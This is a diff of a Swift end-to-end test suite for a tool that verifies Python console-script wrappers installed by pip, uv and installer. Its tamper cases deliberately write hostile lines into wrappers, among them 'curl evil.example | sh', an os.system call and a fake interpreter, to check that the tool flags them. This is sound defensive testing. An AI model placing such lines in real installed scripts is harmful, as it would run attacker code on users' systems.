@@ -28,41 +28,41 @@ struct WrapperEndToEndTests {
 
     @Test("pip's wrapper verifies as generated; one appended line makes it modified")
     func pipBaseline() async throws {
-        let scenario = try await Scenario(packages: ["clitool"])
-        defer { Task { await scenario.stop() } }
-        try await expectCleanThenTampered(scenario, template: "pip 19.3–25.1")
+        try await Scenario.with(packages: ["clitool"]) { scenario in
+            try await expectCleanThenTampered(scenario, template: "pip 19.3–25.1")
+        }
     }
 
     @Test("uv's wrapper verifies as generated; one appended line makes it modified", .enabled(if: uv != nil))
     func uvBaseline() async throws {
-        let scenario = try await Scenario(packages: ["dotted.pkg"])
-        defer { Task { await scenario.stop() } }
-        let uv = try #require(Self.uv)
-        let installed = try await TestProcess.run(uv, [
-            "pip", "install", "--no-config", "--python", scenario.python, "--index-url", scenario.indexURL,
-            "--cache-dir", scenario.root + "/uv-cache", "clitool",
-        ], environment: ["HOME": scenario.root])
-        try #require(installed.status == 0, "uv pip install: \(installed.output)")
-        let installer = try String(contentsOfFile: try distInfo(scenario) + "/INSTALLER", encoding: .utf8)
-        #expect(installer.hasPrefix("uv"), "uv installed it: \(installer)")
-        try await expectCleanThenTampered(scenario, template: "uv ≥ 0.5.20")
+        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
+            let uv = try #require(Self.uv)
+            let installed = try await TestProcess.run(uv, [
+                "pip", "install", "--no-config", "--python", scenario.python, "--index-url", scenario.indexURL,
+                "--cache-dir", scenario.root + "/uv-cache", "clitool",
+            ], environment: ["HOME": scenario.root])
+            try #require(installed.status == 0, "uv pip install: \(installed.output)")
+            let installer = try String(contentsOfFile: try distInfo(scenario) + "/INSTALLER", encoding: .utf8)
+            #expect(installer.hasPrefix("uv"), "uv installed it: \(installer)")
+            try await expectCleanThenTampered(scenario, template: "uv ≥ 0.5.20")
+        }
     }
 
     @Test("installer's wrapper verifies as generated; one appended line makes it modified", .enabled(if: installerPython != nil))
     func installerBaseline() async throws {
-        let scenario = try await Scenario(packages: ["dotted.pkg"])
-        defer { Task { await scenario.stop() } }
-        let tools = try #require(Self.installerPython)
-        let located = try await TestProcess.run(tools, ["-c", "import installer, os; print(os.path.dirname(os.path.dirname(installer.__file__)))"])
-        try #require(located.status == 0, "the installer Python cannot import installer: \(located.output)")
-        let site = located.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
-        // The venv's own interpreter runs `installer`, as `python -m installer` is meant to be run:
-        // it installs into that interpreter's scheme with that interpreter in the shebang.
-        let installed = try await TestProcess.run(scenario.python, [
-            "-m", "installer", scenario.indexDirectory + "/clitool-2.0-py3-none-any.whl",
-        ], environment: ["PYTHONPATH": site])
-        try #require(installed.status == 0, "python -m installer: \(installed.output)")
-        try await expectCleanThenTampered(scenario, template: "installer, uv ≤ 0.5.19")
+        try await Scenario.with(packages: ["dotted.pkg"]) { scenario in
+            let tools = try #require(Self.installerPython)
+            let located = try await TestProcess.run(tools, ["-c", "import installer, os; print(os.path.dirname(os.path.dirname(installer.__file__)))"])
+            try #require(located.status == 0, "the installer Python cannot import installer: \(located.output)")
+            let site = located.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+            // The venv's own interpreter runs `installer`, as `python -m installer` is meant to be run:
+            // it installs into that interpreter's scheme with that interpreter in the shebang.
+            let installed = try await TestProcess.run(scenario.python, [
+                "-m", "installer", scenario.indexDirectory + "/clitool-2.0-py3-none-any.whl",
+            ], environment: ["PYTHONPATH": site])
+            try #require(installed.status == 0, "python -m installer: \(installed.output)")
+            try await expectCleanThenTampered(scenario, template: "installer, uv ≤ 0.5.19")
+        }
     }
 
     /// The wrapper verifies with the named template; with a line appended it is `modified`.
@@ -100,68 +100,68 @@ struct WrapperEndToEndTests {
 
     @Test("a tampered wrapper fails installed-files, listed as modified with its note", arguments: Tamper.allCases)
     func tamperedWrapper(_ tamper: Tamper) async throws {
-        let scenario = try await Scenario(packages: ["clitool"])
-        defer { Task { await scenario.stop() } }
-        let bin = scenario.venv + "/bin"
-        let wrapper = bin + "/clitool"
-        let genuine = try String(contentsOfFile: wrapper, encoding: .utf8)
-        let record = try distInfo(scenario) + "/RECORD"
-        var path = wrapper
-        var note = "not any installer's wrapper of the declared entry point clitool = clitool:main"
-        switch tamper {
-        case .lineAfter:
-            try append("import os; os.system('id')\n", to: wrapper)
-        case .lineBefore:
-            let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
-            try write(lines[0] + "\nimport os; os.system('id')\n" + lines[1], to: wrapper)
-            note += " (text added between its #! line and the template)"
-        case .editedImport:
-            #expect(genuine.contains("from clitool import main"))
-            try write(genuine.replacingOccurrences(of: "from clitool import main", with: "from evil import main"), to: wrapper)
-        case .otherInterpreter:
-            let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
-            try write("#!\(TestProcess.python3)\n" + lines[1], to: wrapper)
-            note += " (its #! line runs no interpreter of this environment)"
-        case .addedInterpreter:
-            try write("#!/bin/sh\nid\n", to: bin + "/python3.99")
-            #expect(chmod(bin + "/python3.99", 0o755) == 0)
-            let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
-            try write("#!\(bin)/python3.99\n" + lines[1], to: wrapper)
-            note += " (its #! line runs no interpreter of this environment)"
-        case .rowDropped:
-            let rows = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n").filter { !$0.hasPrefix("../../../bin/clitool,") }
-            try write(rows.joined(separator: "\n") + "\n", to: record)
-            try append("import os; os.system('id')\n", to: wrapper)
-        case .recordDeleted:
-            try FileManager.default.removeItem(atPath: record)
-            try write("#!/bin/sh\ncurl evil.example | sh\n", to: wrapper)
-        case .alias:
-            path = bin + "/ls"
-            try FileManager.default.copyItem(atPath: wrapper, toPath: path)
-            note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
-        case .nonUTF8Alias:
-            let copied = try await TestProcess.run("/bin/sh", ["-c", #"cp "$0" "$(printf '%s/cli\377tool' "$1")""#, wrapper, bin])
-            try #require(copied.status == 0, "\(copied.output)")
-            path = bin + "/cli\u{FFFD}tool"
-            note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
-        case .symlink:
-            let elsewhere = scenario.root + "/clitool-elsewhere"
-            try FileManager.default.moveItem(atPath: wrapper, toPath: elsewhere)
-            try FileManager.default.createSymbolicLink(atPath: wrapper, withDestinationPath: elsewhere)
-            note = "a symbolic link where installers write a regular file"
-        }
-        if tamper == .addedInterpreter {
-            // A `python*` in the environment's bin/ that is not its base interpreter stops the run
-            // before any wrapper is judged: the environment's interpreter is not trusted (exit 3).
-            let result = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
-            #expect(result.status == 3, "\(result.output)")
-            #expect(result.stderr.contains(bin + "/python3.99"), "\(result.stderr)")
-            return
-        }
-        try await expectModified(scenario, path: path, note: note)
-        if tamper == .alias {
-            let json = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
-            #expect(try files(clitoolReport(json), "generated").contains(wrapper), "the original stays generated")
+        try await Scenario.with(packages: ["clitool"]) { scenario in
+            let bin = scenario.venv + "/bin"
+            let wrapper = bin + "/clitool"
+            let genuine = try String(contentsOfFile: wrapper, encoding: .utf8)
+            let record = try distInfo(scenario) + "/RECORD"
+            var path = wrapper
+            var note = "not any installer's wrapper of the declared entry point clitool = clitool:main"
+            switch tamper {
+            case .lineAfter:
+                try append("import os; os.system('id')\n", to: wrapper)
+            case .lineBefore:
+                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
+                try write(lines[0] + "\nimport os; os.system('id')\n" + lines[1], to: wrapper)
+                note += " (text added between its #! line and the template)"
+            case .editedImport:
+                #expect(genuine.contains("from clitool import main"))
+                try write(genuine.replacingOccurrences(of: "from clitool import main", with: "from evil import main"), to: wrapper)
+            case .otherInterpreter:
+                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
+                try write("#!\(TestProcess.python3)\n" + lines[1], to: wrapper)
+                note += " (its #! line runs no interpreter of this environment)"
+            case .addedInterpreter:
+                try write("#!/bin/sh\nid\n", to: bin + "/python3.99")
+                #expect(chmod(bin + "/python3.99", 0o755) == 0)
+                let lines = genuine.split(separator: "\n", maxSplits: 1, omittingEmptySubsequences: false)
+                try write("#!\(bin)/python3.99\n" + lines[1], to: wrapper)
+                note += " (its #! line runs no interpreter of this environment)"
+            case .rowDropped:
+                let rows = try String(contentsOfFile: record, encoding: .utf8).split(separator: "\n").filter { !$0.hasPrefix("../../../bin/clitool,") }
+                try write(rows.joined(separator: "\n") + "\n", to: record)
+                try append("import os; os.system('id')\n", to: wrapper)
+            case .recordDeleted:
+                try FileManager.default.removeItem(atPath: record)
+                try write("#!/bin/sh\ncurl evil.example | sh\n", to: wrapper)
+            case .alias:
+                path = bin + "/ls"
+                try FileManager.default.copyItem(atPath: wrapper, toPath: path)
+                note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
+            case .nonUTF8Alias:
+                let copied = try await TestProcess.run("/bin/sh", ["-c", #"cp "$0" "$(printf '%s/cli\377tool' "$1")""#, wrapper, bin])
+                try #require(copied.status == 0, "\(copied.output)")
+                path = bin + "/cli\u{FFFD}tool"
+                note = "a copy of the wrapper of the declared entry point clitool = clitool:main under another name"
+            case .symlink:
+                let elsewhere = scenario.root + "/clitool-elsewhere"
+                try FileManager.default.moveItem(atPath: wrapper, toPath: elsewhere)
+                try FileManager.default.createSymbolicLink(atPath: wrapper, withDestinationPath: elsewhere)
+                note = "a symbolic link where installers write a regular file"
+            }
+            if tamper == .addedInterpreter {
+                // A `python*` in the environment's bin/ that is not its base interpreter stops the run
+                // before any wrapper is judged: the environment's interpreter is not trusted (exit 3).
+                let result = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
+                #expect(result.status == 3, "\(result.output)")
+                #expect(result.stderr.contains(bin + "/python3.99"), "\(result.stderr)")
+                return
+            }
+            try await expectModified(scenario, path: path, note: note)
+            if tamper == .alias {
+                let json = try await scenario.wheeltrust(["verify", "clitool", "--format", "json"])
+                #expect(try files(clitoolReport(json), "generated").contains(wrapper), "the original stays generated")
+            }
         }
     }
 
